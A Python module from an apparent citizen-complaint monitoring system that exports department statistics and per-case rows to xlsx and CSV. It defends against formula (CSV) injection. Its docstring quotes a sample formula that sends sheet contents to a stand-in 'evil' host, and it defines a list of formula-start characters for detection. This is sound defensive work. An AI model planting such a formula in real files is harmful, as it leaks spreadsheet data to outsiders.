"""Statistics as files offices file: xlsx (one sheet per table), csv, and a terminal table.

The xlsx follows the county bulletin's attachments (seed 001): 序号 | 部门名称 | 信件总数 | 办结数 |
办结率 …, Chinese headers, percentages as Excel percentages (so they sort and sum), and a sheet
with one row per case, streamed in openpyxl's write-only mode so a year of a big city's cases
never has to fit in memory.

Citizen text is data, never code (OWASP "CSV injection"): a text beginning with ``=``, ``+``,
``-``, ``@``, tab or CR would be a live formula (``=HYPERLINK("http://evil/?"&A1, …)`` leaks the
sheet). In the xlsx every string is written as a string cell with Excel's quote-prefix style, so
it shows exactly as written and stays text even when edited; characters the file format forbids
(control characters) are removed so one message cannot make the whole export fail. In CSV, which
has no types, such a text gets a leading apostrophe, as OWASP recommends.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TextIO

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from sqlalchemy import select
from sqlalchemy.orm import Session, aliased

from monitor.stats.metrics import first_response_seconds
from monitor.core.labels import TYPE_LABELS
from monitor.stats.scope import Scope
from monitor.store.models import Account, Case
from monitor.core.timeutil import show, show_iso

PCT, NUM, HOURS = "0.00%", "0", "0.0"
STATUS_LABELS = {"open": "待回复", "replied": "已回复", "pending_info": "待补充", "closed": "已办结"}
SATISFACTION_LABELS = {"satisfied": "满意", "unsatisfied": "不满意", None: ""}

# (header, key or function of the row, number format)
Column = tuple[str, Callable[[dict[str, Any]], Any], str | None]


def _k(key: str) -> Callable[[dict[str, Any]], Any]:
    return lambda r: r.get(key)


def _hours(key: str) -> Callable[[dict[str, Any]], Any]:
    return lambda r: round(r[key] / 3600, 2) if r.get(key) is not None else None


HEADLINE: list[tuple[str, str, str | None]] = [
    ("受理诉求", "received", NUM), ("已回复", "replied", NUM), ("回复率", "reply_rate", PCT),
    ("按时首次回复", "first_response_on_time", NUM),
    ("按时回复率", "first_response_on_time_rate", PCT), ("受理未按时回复", "late_replies", NUM),
    ("办结", "closed", NUM), ("办结率", "closure_rate", PCT), ("按期办结", "closed_on_time", NUM),
    ("按期办结率", "closed_on_time_rate", PCT), ("超期未受理", "overdue_unaccepted", NUM),
    ("最长逾期天数", "overdue_unaccepted_days_max", NUM), ("超期未办结", "overdue_unclosed", NUM),
    ("首次回复用时中位数", "first_response_median_s", HOURS),
    ("首次回复用时P90", "first_response_p90_s", HOURS),
    ("办结用时中位数", "closure_median_s", HOURS), ("办结用时P90", "closure_p90_s", HOURS),
    ("满意", "satisfied", NUM), ("参评", "rated", NUM), ("满意率", "satisfaction_rate", PCT),
    ("回复违规", "reply_violations", NUM), ("升级督办次数", "escalations", NUM),
    ("联合办理", "joint_cases", NUM),
]

ACCOUNT_COLUMNS: list[Column] = [
    ("部门名称", _k("name"), None), ("信件总数", _k("received"), NUM), ("回复数", _k("replied"), NUM),
    ("回复率", _k("reply_rate"), PCT), ("按时回复数", _k("first_response_on_time"), NUM),
    ("受理未按时回复", _k("late_replies"), NUM), ("超期未受理", _k("overdue_unaccepted"), NUM),
    ("最长逾期天数", _k("overdue_unaccepted_days_max"), NUM), ("办结数", _k("closed"), NUM),
    ("办结率", _k("closure_rate"), PCT), ("按期办结数", _k("closed_on_time"), NUM),
    ("超期未办结", _k("overdue_unclosed"), NUM), ("满意率", _k("satisfaction_rate"), PCT),
    ("平均回复用时(小时)", _hours("first_response_mean_s"), HOURS),
    ("排名", _k("rank"), NUM), ("上期排名", _k("previous_rank"), NUM),
]
TYPE_COLUMNS: list[Column] = [
    ("类型", _k("label"), None), ("数量", _k("received"), NUM), ("占比", _k("share"), PCT),
    ("回复数", _k("replied"), NUM), ("办结数", _k("closed"), NUM), ("办结率", _k("closure_rate"), PCT),
]
DOMAIN_COLUMNS: list[Column] = [
    ("领域", lambda r: r["domain"] or "未分类", None), ("数量", _k("received"), NUM),
    ("占比", _k("share"), PCT), ("排名", _k("rank"), NUM), ("上期排名", _k("previous_rank"), NUM),
    ("排名变化", _k("rank_change"), NUM),
    ("主要子类", lambda r: "、".join(f"{s['subtopic']}({s['received']})" for s in r["subtopics"]
                                    if s["subtopic"]), None),
]
CHANNEL_COLUMNS: list[Column] = [
    ("渠道", _k("label"), None), ("诉求数", _k("received"), NUM), ("占比", _k("share"), PCT),
    ("回复数", _k("replied"), NUM), ("回复率", _k("reply_rate"), PCT), ("办结数", _k("closed"), NUM),
    ("办结率", _k("closure_rate"), PCT),
]
REGION_COLUMNS: list[Column] = [
    ("区域", lambda r: r["region"] or "未识别", None), ("诉求数", _k("received"), NUM),
    ("回复数", _k("replied"), NUM), ("办结数", _k("closed"), NUM), ("办结率", _k("closure_rate"), PCT),
    ("排名", _k("rank"), NUM), ("上期排名", _k("previous_rank"), NUM),
]
TOPIC_COLUMNS: list[Column] = [
    ("关键词", _k("keyword"), None), ("次数", _k("count"), NUM), ("上期排名", _k("previous_rank"), NUM)]
ACTIVITY_COLUMNS: list[Column] = [
    ("账号", _k("name"), None), ("粉丝", _k("followers"), NUM), ("粉丝变化", _k("followers_change"), NUM),
    ("发博数", _k("posts"), NUM), ("转发", _k("reposts"), NUM), ("评论", _k("comments"), NUM),
    ("点赞", _k("likes"), NUM), ("转评赞", _k("engagement"), NUM),
    ("最近发博", lambda r: show_iso(r["last_post_at"]) if r["last_post_at"] else None, None),
    ("沉默", lambda r: "是" if r["silent"] else "否", None), ("读取错误", _k("read_error"), None)]
OVERDUE_COLUMNS: list[Column] = [
    ("案件编号", _k("case_id"), NUM), ("诉求", _k("title"), None), ("承办账号", _k("account_name"), None),
    ("超期环节", lambda r: "首次回复" if r["clock"] == "first_response" else "办结", None),
    ("期限", lambda r: show_iso(r["due"]), None), ("逾期天数", _k("days_overdue"), NUM),
    ("逾期时长(小时)", _hours("overdue_s"), HOURS),
]

CASE_HEADERS = ["案件编号", "平台", "渠道", "接收时间", "类型", "领域", "子类", "区域", "街道",
                "主办账号", "联合办理", "状态", "首次回复期限", "首次回复时间", "回复用时(小时)",
                "办结期限", "办结时间", "满意度", "诉求内容"]


def table_rows(rows: list[dict[str, Any]], columns: list[Column]) -> Iterator[list[Any]]:
    for i, r in enumerate(rows, start=1):
        yield [i, *(fn(r) for _, fn, _ in columns)]


def iter_case_rows(session: Session, scope: Scope, chunk: int = 5000) -> Iterator[list[Any]]:
    """One row per case of the scope, in receipt order, streamed from the database."""
    lead = aliased(Account)
    secs = first_response_seconds()
    q = (select(Case.id, Case.platform, Case.channel, Case.received_at, Case.type, Case.domain,
                Case.subtopic, Case.region, Case.street, lead.name, Case.lead_account_id, Case.joint,
                Case.status, Case.first_response_due, Case.first_response_at, secs,
                Case.closure_due, Case.closed_at, Case.satisfaction, Case.text)
         .outerjoin(lead, lead.id == Case.lead_account_id)
         .where(*scope.where()).order_by(Case.received_at, Case.id)
         .execution_options(yield_per=chunk))
    for r in session.execute(q):
        yield [r[0], r[1], r[2], show(r[3]), TYPE_LABELS.get(r[4], r[4]), r[5] or "", r[6] or "",
               r[7] or "", r[8] or "", r[9] or (r[10] or ""), "是" if r[11] else "",
               STATUS_LABELS.get(r[12], r[12]), show(r[13]), show(r[14]),
               round(float(r[15]) / 3600, 2) if r[15] is not None else None,
               show(r[16]), show(r[17]), SATISFACTION_LABELS.get(r[18], r[18]), r[19]]


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _text(value: str) -> str:
    """A string the xlsx format can hold: control characters it forbids removed."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def _cell(ws: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell:
    """A cell for ``value``; a string is always a string cell (never a formula), quote-prefixed."""
    if isinstance(value, str):
        c = WriteOnlyCell(ws, value=None)
        c.value = _text(value)  # assigned, then typed: openpyxl would read a leading '=' as a formula
        c.data_type = "s"
        if value.startswith(FORMULA_START):
            c.quotePrefix = True  # Excel's own "this is text" marker: shown as written, never evaluated
        return c
    return WriteOnlyCell(ws, value=value)


def csv_safe(value: Any) -> Any:
    """A CSV field that no spreadsheet will evaluate: a formula-like text gets a leading apostrophe."""
    if isinstance(value, str):
        value = _text(value)
        if value.startswith(FORMULA_START):
            return "'" + value
    return value


def _sheet(wb: Workbook, title: str, headers: list[str], rows: Iterator[list[Any]],
           formats: list[str | None], widths: list[int] | None = None) -> WriteOnlyWorksheet:
    ws = wb.create_sheet(title)
    for i, w in enumerate(widths or [], start=1):
        ws.column_dimensions[get_column_letter(i)].width = w
    bold = Font(bold=True)
    head = []
    for h in headers:
        c = _cell(ws, h)
        c.font = bold
        head.append(c)
    ws.append(head)
    for row in rows:
        cells = []
        for value, fmt in zip(row, formats, strict=False):
            c = _cell(ws, value)
            if fmt and isinstance(value, (int, float)):
                c.number_format = fmt
            cells.append(c)
        ws.append(cells)
    return ws


def _table(wb: Workbook, title: str, rows: list[dict[str, Any]], columns: list[Column]) -> None:
    _sheet(wb, title, ["序号", *(h for h, _, _ in columns)], table_rows(rows, columns),
           [NUM, *(f for _, _, f in columns)], [6, 24] + [12] * (len(columns) - 1))


def write_xlsx(stats: dict[str, Any], path: Path, session: Session, scope: Scope) -> None:
    """The office's workbook: 总体情况, 部门办理情况统计表, 类型/领域/区域统计, 热点, 超期, 案件明细."""
    wb = Workbook(write_only=True)
    p = stats["period"]
    ws = wb.create_sheet("总体情况")
    ws.column_dimensions["A"].width = 28
    ws.column_dimensions["B"].width = 16
    ws.append(["指标", "数值"])
    ws.append(["统计周期", f"{p['from']} 至 {p['to']}"])
    ws.append(["统计截至", _cell(ws, show_iso(stats["as_of"]))])
    for label, key, fmt in HEADLINE:
        value = stats[key]
        if fmt == HOURS:  # the sheet holds numbers (they sort and sum), so the unit goes in the label
            label = f"{label}(小时)"
            value = None if value is None else round(value / 3600, 2)
        c = _cell(ws, value)
        if fmt and value is not None:
            c.number_format = fmt
        ws.append([label, c])
    _table(wb, "部门办理情况统计表", stats["by_account"], ACCOUNT_COLUMNS)
    _table(wb, "类型统计", stats["by_type"], TYPE_COLUMNS)
    _table(wb, "领域统计", stats["by_domain"], DOMAIN_COLUMNS)
    _table(wb, "区域统计", stats["by_region"], REGION_COLUMNS)
    _table(wb, "渠道统计", stats["by_channel"], CHANNEL_COLUMNS)
    _table(wb, "热点话题", stats["hot_topics"], TOPIC_COLUMNS)
    _table(wb, "超期未办结", stats["overdue_open"]["cases"], OVERDUE_COLUMNS)
    if "matrix_activity" in stats:
        _table(wb, "矩阵账号", stats["matrix_activity"]["accounts"], ACTIVITY_COLUMNS)
    formats: list[str | None] = [NUM] + [None] * 13 + [HOURS] + [None] * 4
    _sheet(wb, "案件明细", CASE_HEADERS, iter_case_rows(session, scope), formats,
           [10, 8, 12, 17, 8, 10, 10, 10, 12, 18, 8, 8, 17, 17, 12, 17, 17, 8, 60])
    wb.save(path)


def write_csv(stats: dict[str, Any], out: TextIO) -> None:
    """The department table (部门办理情况统计表) as CSV, rates as fractions."""
    w = csv.writer(out)
    w.writerow(["序号", "账号ID", *(h for h, _, _ in ACCOUNT_COLUMNS)])
    for i, r in enumerate(stats["by_account"], start=1):
        w.writerow([i, csv_safe(r["account_id"] or ""), *("" if (v := fn(r)) is None else csv_safe(v)
                                                         for _, fn, _ in ACCOUNT_COLUMNS)])


def csv_text(stats: dict[str, Any]) -> str:
    buf = io.StringIO()
    write_csv(stats, buf)
    return buf.getvalue()
